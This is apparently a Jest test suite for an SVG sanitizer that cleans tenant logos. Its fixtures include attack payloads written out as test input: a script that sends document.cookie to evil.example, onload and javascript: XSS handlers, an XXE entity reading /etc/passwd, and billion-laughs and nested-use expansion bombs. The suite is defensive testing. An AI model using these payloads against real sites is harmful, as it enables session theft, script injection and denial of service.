import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { DOMParser } from '@xmldom/xmldom';

import { MAX_SVG_ELEMENTS, sanitizeSvg, SvgRejectedError } from '../../libs/branding/src/svg-sanitizer';
import { pngImage } from '../support/images';

const SVG_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100">';
const SHAPE = '<rect x="10" y="10" width="80" height="80" fill="#1f4e79"/>';

/** Wraps hostile markup in an SVG that also draws a harmless shape, so only the hostile part can go. */
function withShape(markup: string): Buffer {
  return Buffer.from(`${SVG_OPEN}${SHAPE}${markup}</svg>`);
}

function clean(input: Buffer | string): string {
  return sanitizeSvg(typeof input === 'string' ? Buffer.from(input) : input).svg.toString('utf8');
}

/** Checks what no sanitized logo may contain, whatever the input was. */
function expectInert(svg: string): void {
  expect(svg).not.toMatch(/<script/i);
  expect(svg).not.toMatch(/\son[a-z]+\s*=/i);
  expect(svg).not.toMatch(/foreignObject/i);
  expect(svg).not.toMatch(/javascript:/i);
  // The SVG namespace is a name, not a reference, so it is the one address allowed.
  expect(svg.replace(' xmlns="http://www.w3.org/2000/svg"', '')).not.toMatch(/https?:|\/\/evil/i);
  expect(svg).not.toMatch(/@import/i);
  expect(svg).not.toMatch(/<!ENTITY|<!DOCTYPE/i);
  expect(svg).not.toMatch(/data:(?!image\/(png|jpeg|gif|webp);base64,)/i);
}

function rejectionOf(input: string): string {
  try {
    sanitizeSvg(Buffer.from(input));
  } catch (error) {
    if (error instanceof SvgRejectedError) return error.message;
    throw error;
  }
  throw new Error('the SVG was accepted');
}

describe('SVG sanitizer', () => {
  it('keeps the shapes of a harmless logo', () => {
    const source = readFileSync(join(__dirname, '../../tenants/brightline-fire/logo.svg'));
    const svg = clean(source);
    const root = new DOMParser().parseFromString(svg, 'image/svg+xml').documentElement!;

    expect(root.getAttribute('viewBox')).toBe('0 0 248 64');
    expect(root.getElementsByTagName('rect')).toHaveLength(2);
    expect(root.getElementsByTagName('path')).toHaveLength(2);
    expect(root.getElementsByTagName('tspan')).toHaveLength(1);
    expect(root.getElementsByTagName('text')[0].textContent).toBe('Brightline');
    expect(root.getElementsByTagName('title')[0].textContent).toBe('Brightline Fire Protection');
    expect(svg).toContain('d="M32 11c4 7.5 12 11.5');
    expect(svg).toContain('font-family="Helvetica, Arial, sans-serif"');
    expect(sanitizeSvg(source).removed).toEqual([]);
  });

  it('keeps gradients referenced by local url()', () => {
    const svg = clean(
      withShape(
        '<defs><linearGradient id="fade"><stop offset="0" stop-color="#fff"/><stop offset="1" stop-color="#000"/></linearGradient></defs>' +
          '<circle cx="50" cy="50" r="20" fill="url(#fade)" style="stroke: url(\'#fade\'); stroke-width: 2"/>',
      ),
    );

    expect(svg).toContain('<linearGradient id="fade">');
    expect(svg).toContain('fill="url(#fade)"');
    expect(svg).toContain("stroke: url('#fade')");
  });

  it('removes script elements', () => {
    const svg = clean(withShape('<script type="text/javascript"><![CDATA[ fetch("https://evil.example/" + document.cookie) ]]></script>'));

    expectInert(svg);
    expect(svg).toContain('<rect');
  });

  it('removes event handler attributes', () => {
    const input = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="alert(document.domain)">' +
        '<rect width="10" height="10" onclick="alert(1)" OnMouseOver="alert(2)" onfocusin="alert(3)"/></svg>',
    );
    const result = sanitizeSvg(input);

    expectInert(result.svg.toString());
    expect(result.svg.toString()).toContain('<rect width="10" height="10">');
    expect(result.removed).toContain('event handler attributes such as onload');
  });

  it('removes foreignObject with embedded HTML', () => {
    const svg = clean(
      withShape(
        '<foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml">' +
          '<iframe src="javascript:alert(1)"></iframe><img src="x" onerror="alert(1)"/></body></foreignObject>',
      ),
    );

    expectInert(svg);
    expect(svg).not.toMatch(/iframe|<img/i);
  });

  it('removes use elements that point at other files', () => {
    const result = sanitizeSvg(
      withShape(
        '<use href="https://evil.example/sprite.svg#icon"/><use xlink:href="http://evil.example/x.svg#a"/>' +
          '<use href="//evil.example/x.svg#b"/><use xlink:href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#c"/>',
      ),
    );
    const svg = result.svg.toString();

    expectInert(svg);
    expect(svg).not.toContain('<use');
    expect(result.removed).toContain('links to other files or addresses');
  });

  it('rejects nested use elements that multiply', () => {
    // Seven levels of ten <use> each would draw one rectangle ten million times.
    let defs = '<g id="l0"><rect width="1" height="1"/></g>';
    for (let level = 1; level <= 7; level += 1) {
      const uses = `<use href="#l${level - 1}"/>`.repeat(10);
      defs += `<g id="l${level}">${uses}</g>`;
    }
    expect(() => clean(withShape(`<defs>${defs}</defs><use href="#l7"/>`))).toThrow(/too many <use> elements/);
  });

  it('keeps use elements that point inside the file', () => {
    const svg = clean(withShape('<defs><circle id="dot" r="4"/></defs><use xlink:href="#dot" x="20" y="20"/>'));

    expect(svg).toContain('<use href="#dot" x="20" y="20">');
  });

  it('unwraps javascript: links but keeps their shapes', () => {
    const svg = clean(withShape('<a xlink:href="javascript:alert(1)"><circle cx="5" cy="5" r="5"/></a><a href="https://evil.example"><text>hi</text></a>'));

    expectInert(svg);
    expect(svg).not.toContain('<a');
    expect(svg).toContain('<circle cx="5" cy="5" r="5">');
    expect(svg).toContain('<text>hi</text>');
  });

  it('removes data: URLs that are not raster images', () => {
    const script = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>').toString('base64');
    const svg = clean(
      withShape(
        `<image href="data:image/svg+xml;base64,${script}" width="10" height="10"/>` +
          '<image href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;" width="10" height="10"/>' +
          `<image href="data:image/png;base64,${script}" width="10" height="10"/>` +
          '<image href="https://evil.example/tracker.png" width="10" height="10"/>',
      ),
    );

    expectInert(svg);
    expect(svg).not.toContain('<image');
  });

  it('keeps an embedded PNG data: URL', () => {
    const png = pngImage(2, 2).toString('base64');
    const svg = clean(withShape(`<image href="data:image/png;base64,${png}" width="10" height="10"/>`));

    expect(svg).toContain(`<image href="data:image/png;base64,${png}"`);
  });

  it('rejects entity expansion', () => {
    const laughs =
      '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">' +
      '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">]>' +
      `${SVG_OPEN}<text>&lol2;</text>${SHAPE}</svg>`;

    expect(rejectionOf(laughs)).toContain('declares XML entities');
  });

  it('rejects external entities', () => {
    const xxe = `<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${SVG_OPEN}<text>&xxe;</text>${SHAPE}</svg>`;

    expect(rejectionOf(xxe)).toContain('declares XML entities');
  });

  it('drops a DOCTYPE that only names the SVG DTD', () => {
    const svg = clean(
      `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">${SVG_OPEN}${SHAPE}</svg>`,
    );

    expectInert(svg);
    expect(svg).toContain('<rect');
  });

  it('removes style sheets with @import', () => {
    const result = sanitizeSvg(withShape('<style>@import url("https://evil.example/x.css"); rect { fill: red }</style>'));
    const svg = result.svg.toString();

    expectInert(svg);
    expect(svg).not.toContain('<style');
  });

  it('removes resource loads from style rules and attributes', () => {
    const svg = clean(
      withShape(
        '<style>rect { fill: blue; background-image: url(https://evil.example/a.png); cursor: url(//evil.example/c.cur) }</style>' +
          '<circle r="5" style="fill: url(https://evil.example/#p); stroke: red" filter="url(https://evil.example/f.svg#x)"/>' +
          '<circle r="6" style="fill: u\\72l(//evil.example/a.png)" mask="image-set(\'//evil.example/m.png\' 1x)"/>',
      ),
    );

    expectInert(svg);
    expect(svg).toContain('<style>rect { fill: blue }</style>');
    expect(svg).toContain('<circle r="5" style="stroke: red">');
    expect(svg).toContain('<circle r="6">');
  });

  it('removes animation that could rewrite links', () => {
    const svg = clean(
      withShape('<a><animate attributeName="href" to="javascript:alert(1)"/><set attributeName="href" to="javascript:alert(2)"/><text>x</text></a>'),
    );

    expectInert(svg);
    expect(svg).not.toMatch(/<animate|<set/);
  });

  it('removes elements of other namespaces', () => {
    const svg = clean(
      '<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" viewBox="0 0 10 10" inkscape:version="1.0">' +
        '<inkscape:grid/><rect width="1" height="1"/></svg>',
    );

    expect(svg).toBe('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="1" height="1"></rect></svg>');
  });

  it('rejects an SVG with nothing left to draw', () => {
    const message = rejectionOf(`${SVG_OPEN}<script>alert(1)</script><foreignObject><p>x</p></foreignObject></svg>`);

    expect(message).toContain('nothing left to draw');
  });

  it('rejects an SVG without a size', () => {
    expect(rejectionOf(`<svg xmlns="http://www.w3.org/2000/svg">${SHAPE}</svg>`)).toContain('viewBox');
  });

  it('rejects markup that is not SVG', () => {
    expect(rejectionOf('<html><body><svg viewBox="0 0 1 1"><rect width="1" height="1"/></svg></body></html>')).toContain('root element must be <svg>');
    expect(rejectionOf(`${SVG_OPEN}<rect width="1"`)).toContain('not well-formed');
  });

  it('rejects text that is not UTF-8', () => {
    const latin1 = Buffer.concat([Buffer.from(`${SVG_OPEN}<text>`), Buffer.from([0xe9]), Buffer.from(`</text>${SHAPE}</svg>`)]);

    expect(() => sanitizeSvg(latin1)).toThrow('not valid UTF-8');
  });

  it('rejects an SVG with too many elements', () => {
    const many = '<g/>'.repeat(MAX_SVG_ELEMENTS + 1);

    expect(rejectionOf(withShape(many).toString())).toContain('too complex');
  });
});
